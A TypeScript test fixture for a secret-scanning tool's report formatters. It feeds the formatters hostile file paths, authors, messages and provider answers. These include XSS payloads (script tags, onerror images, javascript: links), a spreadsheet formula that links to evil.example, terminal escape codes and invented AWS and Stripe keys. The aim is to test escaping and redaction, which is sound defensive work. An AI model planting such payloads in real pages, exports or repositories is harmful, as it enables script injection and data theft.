// Report data with hostile values (paths, authors and messages are whatever a committer wrote) for the formatter tests.
import type { Finding } from '../../src/findings/finding.js';
import type { ReportRule } from '../../src/report/report-rules.js';
import type { ScanReport } from '../../src/scan/run-scan.js';

/** Invented, shape-valid values: they must never appear in a report that is not allowed to show secrets. */
export const SECRET = 'AKIAQ3EGRTXMPL7ZK2NB';
export const SECRET_2 = 'sk_live_4eC39HqLyjWDarjtT1zdp7dcZZQ9xV3b';

export const NASTY_PATHS = {
  spaces: 'config dir/#1 secrets?.env',
  markup: 'web/<img src=x onerror=alert(1)>.html',
  control: 'odd/ctrl\u0001\u001b[31mred\u007f.txt',
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  newline: 'two\r\nlines, "quoted".txt',
  unicode: 'docs/ünïcødé/日本語 ✓.md',
} as const;

export const RULES: ReportRule[] = [
  { id: 'aws.access-key-id', name: 'AWS access key ID', severity: 'high', references: ['https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html'], revoke: 'https://console.aws.amazon.com/iam/home#/security_credentials' },
  { id: 'stripe.secret-key', name: 'Stripe secret key', severity: 'critical', references: ['javascript:alert(1)', 'https://docs.stripe.com/keys'], revoke: 'https://dashboard.stripe.com/apikeys' },
  // a hostile revoke link in a user's rule file never becomes a link
  { id: 'generic.password', name: 'Password assignment', severity: 'medium', revoke: 'javascript:alert(2)' },
  { id: 'unused.rule', name: 'A rule with no finding', severity: 'low' },
];

export function finding(path: string, extra: Partial<Finding> = {}): Finding {
  return {
    ruleId: 'aws.access-key-id',
    ruleName: 'AWS access key ID',
    severity: 'high',
    confidence: 'medium',
    context: 'config',
    path,
    commit: '9f3c1b2a'.repeat(5),
    author: 'Ann Example',
    email: 'ann@example.com',
    date: '2024-03-01T10:12:00+01:00',
    message: 'add aws config',
    line: 3,
    column: 10,
    fingerprint: '4be1'.repeat(16),
    redacted: 'AKIA********',
    blob: '1d2e'.repeat(10),
    laterCommits: [],
    ...extra,
  };
}

export function summary(findings: number, extra: Partial<ScanReport['summary']> = {}): ScanReport['summary'] {
  return {
    version: '0.1.0', engine: 'git', mode: 'history', path: '.', rules: 4, belowConfidence: { threshold: 'medium', count: 2 }, commits: 6413, blobsScanned: 11803, bytesScanned: 154_000_000, blobsReused: 2210,
    blobsSkipped: { binary: 1, 'too-large': 0, missing: 0, failed: 0 },
    skipped: [{ oid: 'ab'.repeat(20), path: 'img/<b>logo</b>.png', reason: 'binary', size: 5021 }],
    findings, incomplete: false, durationMs: 1830,
    ...extra,
  };
}

/** Every hostile path once, some with secrets (as with --show-secrets), hostile authors and messages. */
export function nastyReport(options: { secrets: boolean }): ScanReport {
  const secret = (value: string): Partial<Finding> => (options.secrets ? { secret: value } : {});
  const findings: Finding[] = [
    finding(NASTY_PATHS.spaces, { ...secret(SECRET), laterCommits: ['77aa'.repeat(10), '88bb'.repeat(10)] }),
    finding(NASTY_PATHS.markup, { ...secret(SECRET), author: '<script>alert("author")</script>', email: 'x@evil.example' }),
    finding(NASTY_PATHS.control, { ...secret(SECRET), author: 'Ctrl\u0007\u0000Bell', message: 'ctrl \u0008 message' }),
    finding(NASTY_PATHS.formula, {
      ...secret(SECRET_2), ruleId: 'stripe.secret-key', ruleName: 'Stripe secret key', severity: 'critical', redacted: 'sk_l********',
      author: '+SUM(1,2)', email: '@evil.example', line: 1, column: 1,
    }),
    finding(NASTY_PATHS.newline, { ...secret(SECRET), author: 'Eve "the, quoter"', message: 'line one\r\nline two ]]> & <b>' }),
    finding(NASTY_PATHS.unicode, {
      ...secret('hunter2hunter2'), ruleId: 'generic.password', ruleName: 'Password assignment', severity: 'medium', redacted: '********',
      author: 'Zoë Ångström\t-tab', line: 12, column: 7,
    }),
    // a rule the caller did not pass (another ruleset): must still get a rule entry
    finding('plain.txt', { ruleId: 'custom.token', ruleName: 'Custom token', severity: 'low', commit: undefined, author: undefined, email: undefined, date: undefined, message: undefined }),
  ];
  return { findings, summary: summary(findings.length) };
}

/** Markup that runs script if any report lets it through as HTML: a browser test checks `window.__pwned` stays unset. */
export const HOSTILE = {
  img: '<img src=x onerror="window.__pwned=1">',
  script: '<script>window.__pwned=1</script>',
  link: 'javascript:window.__pwned=1',
} as const;

export const CHECKED_AT = '2025-05-01T10:00:00Z';

/** nastyReport with --verify: live, invalid, unknown and unchecked findings; providers answer with hostile identities. */
export function verifiedReport(options: { secrets: boolean }): ScanReport {
  const base = nastyReport(options);
  const answers: (Finding['verification'] | undefined)[] = [
    { status: 'valid', checkedAt: CHECKED_AT, provider: 'aws', identity: { account: '123456789012', arn: 'arn:aws:iam::123456789012:user/ci' } },
    { status: 'valid', checkedAt: CHECKED_AT, provider: 'aws', identity: { user: HOSTILE.img, org: HOSTILE.script } },
    { status: 'invalid', checkedAt: CHECKED_AT, provider: 'aws', error: 'http 403' },
    { status: 'valid', checkedAt: CHECKED_AT, provider: 'stripe', identity: { account: '=HYPERLINK("http://evil.example")', email: '@evil.example' } },
    { status: 'unknown', checkedAt: CHECKED_AT, provider: 'aws', error: 'timeout after 5 s' },
    { status: 'unknown', checkedAt: CHECKED_AT, provider: 'none', error: 'not supported' },
    undefined,
  ];
  return {
    findings: base.findings.map((f, i) => (answers[i] ? { ...f, verification: answers[i] } : f)),
    summary: { ...base.summary, verification: { valid: 3, invalid: 1, unknown: 2, unsupported: 1, requests: 5, cached: 1 } },
  };
}
